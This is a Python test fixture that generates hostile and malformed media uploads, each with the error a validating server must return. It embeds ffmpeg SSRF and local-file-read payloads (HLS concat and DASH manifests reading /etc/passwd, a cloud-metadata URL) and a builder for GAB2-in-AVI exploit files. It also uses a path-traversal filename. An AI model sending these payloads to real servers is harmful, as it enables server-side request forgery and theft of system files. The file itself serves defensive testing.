"""A corpus of hostile and broken uploads (and two awkward but valid ones), with the error each must get.

`build_corpus(workdir)` generates every case and returns a list of HostileCase, which unpacks as the 4-tuple
`(filename, content, expected_code, stage)`:

- filename: the name the uploader gave, which may be hostile itself (the server sanitises it; media never uses it
  as a path);
- content: bytes, or a Path to a generated file in `workdir`;
- expected_code: the MediaError code, or None for a file that must be accepted;
- stage: "probe" when `media.probe.probe` must refuse it synchronously, "analysis" when only the full decode in
  `media.analysis.analyse` can; accepted files carry "analysis" (they must pass both).

The server tests reuse it for the upload API: `from tests.media.hostile_corpus import build_corpus`.
"""

from __future__ import annotations

import random
import struct
from pathlib import Path
from typing import NamedTuple

from tests.media import synth


class HostileCase(NamedTuple):
    """One upload and the verdict it must get."""

    filename: str
    content: bytes | Path
    expected_code: str | None
    stage: str

    def write_to(self, path: Path) -> Path:
        """Write the upload's bytes to `path` (the name the server would store it under) and return `path`."""
        path.write_bytes(self.content if isinstance(self.content, bytes) else self.content.read_bytes())
        return path


# The classic ffmpeg SSRF/LFI payload: a playlist whose segment pulls a local file through concat.
SSRF_PLAYLIST = (
    b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n"
    b"concat:http://example.invalid/header.m3u8|file:///etc/passwd\n#EXT-X-ENDLIST\n"
)


def build_corpus(workdir: Path) -> list[HostileCase]:
    """Generate every case into `workdir` and return them."""
    workdir.mkdir(parents=True, exist_ok=True)
    good = workdir / "good.mp3"
    synth.ffmpeg("-i", str(synth.speech(workdir / "good.wav", seconds=6)), "-c:a", "libmp3lame", str(good))
    return [
        *_manifests(workdir),
        *_not_media(workdir),
        *_over_limits(workdir),
        *_cut_short(workdir),
        *_wrong_streams(workdir),
        HostileCase("第一课 学习.mp3", good, None, "analysis"),
        HostileCase("../../etc/passwd.mp3", good, None, "analysis"),
        HostileCase("with-cover-art.mp3", _with_cover(workdir, good), None, "analysis"),
    ]


def _manifests(workdir: Path) -> list[HostileCase]:
    """Playlists and manifests under media names, and a container that carries a playlist inside."""
    segment = workdir / "seg0.ts"
    synth.ffmpeg("-f", "lavfi", "-i", "sine=d=1", "-f", "mpegts", str(segment))
    hls_local = f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1.0,\n{segment}\n#EXT-X-ENDLIST\n".encode()
    dash = (
        b'<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">'
        b'<Period><AdaptationSet><Representation><BaseURL>file:///etc/passwd</BaseURL>'
        b"</Representation></AdaptationSet></Period></MPD>\n"
    )
    cloud_metadata = SSRF_PLAYLIST.replace(b"concat:", b"http://169.254.169.254/")
    sdp = b"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=lesson\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=audio 5004 RTP/AVP 96\r\n"
    return [
        HostileCase("lesson.mp4", hls_local, "playlist_refused", "probe"),
        HostileCase("metadata.mp3", b"\xef\xbb\xbf" + cloud_metadata, "playlist_refused", "probe"),
        HostileCase("lesson.avi", gab2_avi(SSRF_PLAYLIST), "playlist_refused", "probe"),
        HostileCase("lesson.wav", b"ffconcat version 1.0\nfile '/etc/passwd'\n", "playlist_refused", "probe"),
        HostileCase("parts.mp3", b"file 'part1.mp3'\nfile 'part2.mp3'\n", "playlist_refused", "probe"),
        HostileCase("lesson-dash.mp4", dash, "playlist_refused", "probe"),
        HostileCase("stream.mp3", sdp, "playlist_refused", "probe"),
    ]


def _not_media(workdir: Path) -> list[HostileCase]:
    """Files that are not audio or video at all, whatever their names say."""
    png = workdir / "picture.png"
    synth.ffmpeg("-f", "lavfi", "-i", "testsrc=s=64x64:d=0.04", "-frames:v", "1", str(png))
    jpeg = workdir / "picture.jpg"
    synth.ffmpeg("-f", "lavfi", "-i", "testsrc=s=64x64:d=0.04", "-frames:v", "1", str(jpeg))
    wavpack = workdir / "lesson.wv"
    synth.ffmpeg("-f", "lavfi", "-i", "sine=d=1", "-c:a", "wavpack", str(wavpack))
    return [
        HostileCase("empty.mp3", b"", "empty_file", "probe"),
        HostileCase("notes.mp3", "第三课 学习笔记\nLesson 3 notes: read chapter 2.\n".encode(), "not_media", "probe"),
        HostileCase("noise.mp3", random.Random(7).randbytes(64 * 1024), "not_media", "probe"),
        HostileCase("cover.mp3", png, "container_not_allowed", "probe"),
        HostileCase("photo.mp3", jpeg, "container_not_allowed", "probe"),
        HostileCase("lesson-wavpack.mp3", wavpack, "container_not_allowed", "probe"),
    ]


def _over_limits(workdir: Path) -> list[HostileCase]:
    """Real media over the default Limits: length, picture size, bit rate."""
    long_flac = workdir / "long.flac"
    # 4 h 1 min of silence at 8 kHz: big frames of a constant signal keep it at ~30 KB.
    synth.ffmpeg("-f", "lavfi", "-i", "anullsrc=r=8000:cl=mono", "-t", "14460", "-c:a", "flac",
                 "-compression_level", "0", "-frame_size", "65535", str(long_flac))
    big_picture = synth.video(workdir / "big.mkv", size="4096x2304", seconds=0.2)
    fat_wav = workdir / "fat.wav"
    # 5.1 at 192 kHz in 64-bit float: 73.7 Mb/s, over the 60 Mb/s limit.
    synth.ffmpeg("-f", "lavfi", "-i", "anoisesrc=r=192000:d=0.2", "-af", "pan=5.1|c0=c0|c1=c0|c2=c0|c3=c0|c4=c0|c5=c0",
                 "-c:a", "pcm_f64le", str(fat_wav))
    return [
        HostileCase("four-hours.flac", long_flac, "too_long", "probe"),
        HostileCase("cinema.mkv", big_picture, "resolution_too_high", "probe"),
        HostileCase("studio-master.wav", fat_wav, "bitrate_too_high", "probe"),
    ]


def _cut_short(workdir: Path) -> list[HostileCase]:
    """Incomplete copies: they declare their full length but hold only part of it."""
    mp3 = workdir / "whole.mp3"
    wav = synth.speech(workdir / "whole.wav", seconds=20)
    synth.ffmpeg("-i", str(wav), "-c:a", "libmp3lame", "-b:a", "64k", str(mp3))
    moov_last = synth.video(workdir / "moov-last.mp4", size="320x240", seconds=6)
    faststart = workdir / "faststart.mp4"
    synth.ffmpeg("-i", str(moov_last), "-c", "copy", "-movflags", "+faststart", str(faststart))
    damaged = bytearray(mp3.read_bytes())
    start = len(damaged) // 10
    damaged[start:] = random.Random(3).randbytes(len(damaged) - start)
    return [
        # The LAME/Info header still gives the whole frame count, as after a USB copy that stopped early.
        HostileCase("usb-copy.mp3", _head(mp3, 0.4), "truncated", "analysis"),
        # ffmpeg takes a WAV's length from the file size; the header's data size is what tells (checked in probe).
        HostileCase("recorder.wav", _head(wav, 0.4), "truncated", "probe"),
        HostileCase("half-upload.mp4", _head(moov_last, 0.5), "not_media", "probe"),
        HostileCase("half-faststart.mp4", _head(faststart, 0.6), "truncated", "analysis"),
        HostileCase("scrambled.mp3", bytes(damaged), "decode_error", "analysis"),
    ]


def _wrong_streams(workdir: Path) -> list[HostileCase]:
    """Media whose streams are not what a lesson needs."""
    silent_film = synth.video(workdir / "silent.mp4", size="320x240", seconds=1, audio=False)
    ffv1 = synth.video(workdir / "ffv1.mkv", size="320x240", seconds=1, vcodec="ffv1")
    return [
        HostileCase("silent-film.mp4", silent_film, "no_audio", "probe"),
        HostileCase("archive.mkv", ffv1, "codec_not_allowed", "probe"),
    ]


def _with_cover(workdir: Path, mp3: Path) -> Path:
    """Return a copy of `mp3` with a JPEG cover (an attached picture, which must not make it a video)."""
    cover = workdir / "with-cover.mp3"
    synth.ffmpeg("-i", str(mp3), "-f", "lavfi", "-i", "testsrc=s=200x200:d=0.04", "-map", "0:a", "-map", "1:v",
                 "-frames:v", "1", "-c:a", "copy", "-c:v", "mjpeg", "-disposition:v", "attached_pic", str(cover))
    return cover


def _head(path: Path, fraction: float) -> bytes:
    """Return the first `fraction` of a file's bytes."""
    data = path.read_bytes()
    return data[: int(len(data) * fraction)]


def _chunk(fourcc: bytes, data: bytes) -> bytes:
    """Return a RIFF chunk, padded to an even length."""
    return fourcc + struct.pack("<I", len(data)) + data + (b"\0" if len(data) % 2 else b"")


def _riff_list(kind: bytes, *chunks: bytes) -> bytes:
    """Return a RIFF LIST of `kind` holding `chunks`."""
    body = kind + b"".join(chunks)
    return b"LIST" + struct.pack("<I", len(body)) + body


def gab2_avi(playlist: bytes) -> bytes:
    """Return an AVI whose one subtitle stream is a GAB2 chunk carrying `playlist`, like the known exploit files.

    ffmpeg's AVI demuxer probes a GAB2 payload and opens a sub-demuxer on it; in old ffmpeg that could be the HLS
    demuxer, which then fetched URLs or read local files named in the playlist.
    """
    avih = struct.pack("<14I", 40000, 0, 0, 0x10, 1, 0, 1, 0, 320, 240, 0, 0, 0, 0)
    strh = b"txts" + b"\0\0\0\0" + struct.pack("<IHHIIIIIIII4h", 0, 0, 0, 0, 1, 25, 0, 1, 0, 0, 0, 0, 0, 0, 0)
    stream_list = _riff_list(b"strl", _chunk(b"strh", strh), _chunk(b"strf", b"\0" * 4))
    header = _riff_list(b"hdrl", _chunk(b"avih", avih), stream_list)
    description = "lesson".encode("utf-16-le")
    gab2 = (
        b"GAB2\0" + struct.pack("<H", 2) + struct.pack("<I", len(description)) + description
        + struct.pack("<H", 4) + struct.pack("<I", len(playlist)) + playlist
    )
    payload = _chunk(b"00tx", gab2)
    movi = _riff_list(b"movi", payload)
    index = _chunk(b"idx1", b"00tx" + struct.pack("<III", 0x10, 4, len(gab2)))
    body = b"AVI " + header + movi + index
    return b"RIFF" + struct.pack("<I", len(body)) + body
